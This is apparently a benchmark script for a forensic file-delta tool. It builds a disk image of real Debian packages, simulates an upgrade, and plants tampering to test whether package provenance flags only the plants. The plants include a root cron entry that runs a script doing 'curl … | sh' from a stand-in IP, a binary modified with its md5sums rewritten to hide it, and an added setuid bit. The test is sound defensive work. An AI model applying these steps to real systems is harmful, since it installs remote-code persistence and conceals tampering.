#!/bin/bash
# tests/bench/provenance.sh - issue 15's bench: how much of an upgraded host's delta package
# provenance explains, and what it costs.
#
# Gold: an ext4 root of PACKAGES real packages (.debs from DEBS, default the apt cache),
# unpacked with dpkg-deb -x and given the dpkg database dpkg writes (info/PKG.list,
# info/PKG.md5sums, status with each package's Conffiles and their MD5s). Incident: UPGRADE of them upgraded to newer .debs (each rebuilt
# with a new version and every regular file changed, as a rebuild changes them), dpkg.log
# grown, and five planted changes: a packaged binary modified (its package untouched), a
# binary modified with its md5sums rewritten to match, a setuid bit added to a packaged
# binary, two unpackaged files added, and a conffile of an untouched package edited (when one
# has a conffile). A known-good set is built from all the .debs, old and
# new. Prints: the delta, how much is explained (by reason and trust), what is left
# unexplained (it must be the plants), and scan time with provenance on and off (RUNS runs
# each, median wall and user+sys CPU; the overhead should be at most 15%).
#   tests/bench/provenance.sh                 (as root)
#   PACKAGES=300 UPGRADE=60 RUNS=5 tests/bench/provenance.sh
set -euo pipefail
top=$(cd "$(dirname "$0")/../.." && pwd)
deltair=$top/build/deltair
DEBS=${DEBS:-/var/cache/apt/archives}
PACKAGES=${PACKAGES:-200}
UPGRADE=${UPGRADE:-40}
RUNS=${RUNS:-3}
[ "$(id -u)" = 0 ] || { echo "bench: run as root" >&2; exit 2; }
[ -x "$deltair" ] || { echo "bench: build first" >&2; exit 2; }
dir=$(mktemp -d /var/tmp/deltair-prov-bench.XXXXXX)
trap 'rm -rf "$dir"' EXIT
cd "$dir"

# conffiles DEB ROOT: the Conffiles field dpkg writes (each conffile's MD5 as installed).
conffiles()
{
	local c
	c=$(dpkg-deb --ctrl-tarfile "$1" | tar -xO ./conffiles 2> /dev/null | grep '^/' || true)
	[ -n "$c" ] || return 0
	echo "Conffiles:"
	while read -r f; do
		if [ -f "$2$f" ]; then
			printf ' %s %s\n' "$f" "$(md5sum < "$2$f" | cut -d' ' -f1)"
		fi
	done <<< "$c"
}

# install_deb ROOT DEB: what dpkg -i leaves, without maintainer scripts.
install_deb()
{
	local root=$1 deb=$2 pkg arch ma base
	pkg=$(dpkg-deb -f "$deb" Package)
	arch=$(dpkg-deb -f "$deb" Architecture)
	ma=$(dpkg-deb -f "$deb" Multi-Arch || true)
	base=$pkg
	[ "$ma" = same ] && base=$pkg:$arch
	dpkg-deb -x "$deb" "$root"
	dpkg-deb --fsys-tarfile "$deb" | tar -t | sed 's|^\./|/|; s|/$||; s|^$|/.|' \
		> "$root/var/lib/dpkg/info/$base.list"
	dpkg-deb --ctrl-tarfile "$deb" | tar -xO ./md5sums > "$root/var/lib/dpkg/info/$base.md5sums" \
		2> /dev/null || rm -f "$root/var/lib/dpkg/info/$base.md5sums"
	{
		dpkg-deb -f "$deb"
		echo "Status: install ok installed"
		conffiles "$deb" "$root"
	} > "ctl-$root/$base"
	printf '%s %s install %s:%s %s\n' "2026-12-01 10:00:00" "$pkg" "$arch" \
		"$(dpkg-deb -f "$deb" Version)" "$(dpkg-deb -f "$deb" Version)" \
		>> "$root/var/log/dpkg.log"
}
write_status()
{
	local root=$1 f
	: > "$root/var/lib/dpkg/status"
	for f in "ctl-$root"/*; do
		cat "$f" >> "$root/var/lib/dpkg/status"
		echo >> "$root/var/lib/dpkg/status"
	done
}

mkdir -p gold/var/lib/dpkg/info gold/var/log gold/usr/local/bin gold/etc/cron.d ctl-gold debs new
# Packages of one name once; between 20 KB and 3 MB; maintainer scripts do not matter
# (nothing runs them).
n=0
declare -A seen
for d in "$DEBS"/*.deb; do
	s=$(stat -c %s "$d")
	[ "$s" -ge 20000 ] && [ "$s" -le 3000000 ] || continue
	p=$(dpkg-deb -f "$d" Package) || continue
	[ -z "${seen[$p]:-}" ] || continue
	seen[$p]=1
	cp "$d" debs/
	install_deb gold "$d"
	n=$((n + 1))
	[ "$n" -lt "$PACKAGES" ] || break
done
write_status gold
echo "gold: $n packages, $(find gold -type f | wc -l) files, $(du -sm gold | cut -f1) MB"

# The upgrade batch: the first UPGRADE packages (in name order) with a regular file.
cp -a gold incident
cp -a ctl-gold ctl-incident
up=0
for d in debs/*.deb; do
	[ "$up" -lt "$UPGRADE" ] || break
	rm -rf x
	dpkg-deb -R "$d" x
	[ -n "$(find x -path x/DEBIAN -prune -o -type f -size +0 -print -quit)" ] || continue
	v=$(dpkg-deb -f "$d" Version)
	sed -i "s/^Version: .*/Version: $v+bench1/" x/DEBIAN/control
	find x -path x/DEBIAN -prune -o -type f -size +0 -print0 |
		xargs -0 -r -n 200 sh -c 'for f; do printf "\001" | dd of="$f" bs=1 seek=0 conv=notrunc status=none; done' sh
	(cd x && find . -path ./DEBIAN -prune -o -type f -printf '%P\0' | xargs -0 -r md5sum > DEBIAN/md5sums)
	dpkg-deb -b --root-owner-group x "new/$(basename "$d" .deb)+bench1.deb" > /dev/null
	install_deb incident "new/$(basename "$d" .deb)+bench1.deb"
	up=$((up + 1))
	echo "$d" >> upgraded.txt
done
write_status incident
# The plants, on packages the upgrade did not touch (the last ones).
mapfile -t bins < <(for l in incident/var/lib/dpkg/info/*.md5sums; do
	{ grep -m1 -E '  usr/s?bin/' "$l" || true; } |
		sed "s|^[0-9a-f]*  |/|;s|\$| $(basename "$l" .md5sums)|"; done |
	tail -n 3)
[ "${#bins[@]}" = 3 ] || { echo "bench: too few packaged binaries to plant in" >&2; exit 1; }
read -r b1 _ <<< "${bins[0]}"
read -r b2 p2 <<< "${bins[1]}"
read -r b3 _ <<< "${bins[2]}"
printf 'X' | dd of="incident$b1" bs=1 seek=100 conv=notrunc status=none       # trojaned
printf 'Y' | dd of="incident$b2" bs=1 seek=100 conv=notrunc status=none       # and hidden
sum=$(md5sum < "incident$b2" | cut -d' ' -f1)
sed -i "s|^[0-9a-f]*  ${b2#/}\$|$sum  ${b2#/}|" "incident/var/lib/dpkg/info/$p2.md5sums"
chmod u+s "incident$b3"                                                        # setuid
printf '#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n' > incident/usr/local/bin/update-check
chmod 755 incident/usr/local/bin/update-check
printf '* * * * * root /usr/local/bin/update-check\n' > incident/etc/cron.d/update-check
# A conffile of a package the upgrade did not touch, edited (dpkg would keep the edit).
conf=$(for d in debs/*.deb; do
	grep -qxF "$d" upgraded.txt ||
		dpkg-deb --ctrl-tarfile "$d" | tar -xO ./conffiles 2> /dev/null | grep '^/' || true
done | while read -r f; do [ -f "incident$f" ] && echo "$f"; done | tail -n 1)
[ -z "$conf" ] || printf '\n# planted\n' >> "incident$conf"
echo "incident: $up packages upgraded; planted: $b1 (modified), $b2 (+ md5sums), $b3 (setuid)," \
	"/usr/local/bin/update-check, /etc/cron.d/update-check, ${conf:-no conffile} (edited)"

size=$(( $(du -sm incident | cut -f1) * 3 / 2 + 64 ))M
mke2fs -q -F -t ext4 -d gold gold.img "$size"
mke2fs -q -F -t ext4 -d incident incident.img "$size"
"$deltair" baseline --no-progress -o gold.dtree gold.img
"$deltair" known-good build -o debs.kg debs new
"$deltair" known-good info debs.kg

scan() { "$deltair" scan --no-progress --no-rules --no-artifacts -b gold.dtree "$@" incident.img; }
scan --known-good debs.kg -o prov.jsonl || [ $? = 1 ]
echo "delta and provenance:"
jq -c 'select(.event == "summary") | {delta, provenance: (.provenance | {explained, unexplained, trust, md5})}' prov.jsonl
jq -r 'select(.event == "summary") | .provenance |
	"explained: \(.explained.total) of \(.explained.total + .unexplained.total) changes (\(100 * .explained.total / (.explained.total + .unexplained.total) | floor)%)"' prov.jsonl
echo "unexplained (scan --unexplained):"
jq -r 'select(.event == "file" and .provenance.explained == false) | "  \(.change) \(.path) \(.provenance.reason)"' prov.jsonl

# Time: provenance on (with the set) and off, alternated, RUNS each.
for i in $(seq "$RUNS"); do
	for mode in on off; do
		if [ "$mode" = on ]; then a=(--known-good debs.kg); else a=(--no-provenance); fi
		/usr/bin/time -f "$mode %e %U %S" -a -o times.txt \
			"$deltair" scan --no-progress --no-rules --no-artifacts -b gold.dtree "${a[@]}" \
			-o /dev/null incident.img || true
	done
done
awk '{w[$1] = w[$1] " " $2; c[$1] = c[$1] " " ($3 + $4)}
	function median(s,   a, n, i, j, t) { n = split(s, a, " ");
		for (i = 1; i <= n; i++) for (j = i + 1; j <= n; j++) if (a[j] + 0 < a[i] + 0) { t = a[i]; a[i] = a[j]; a[j] = t }
		return a[int((n + 1) / 2)] }
	END { won = median(w["on"]); woff = median(w["off"]); con = median(c["on"]); coff = median(c["off"]);
		printf "scan, provenance on:  median %.2f s wall, %.2f s user+sys\n", won, con;
		printf "scan, provenance off: median %.2f s wall, %.2f s user+sys\n", woff, coff;
		printf "overhead: wall %+.1f%%, CPU %+.1f%%\n", 100 * (won / woff - 1), 100 * (con / coff - 1) }' times.txt
echo "runs (mode wall user sys):"; sed 's/^/  /' times.txt
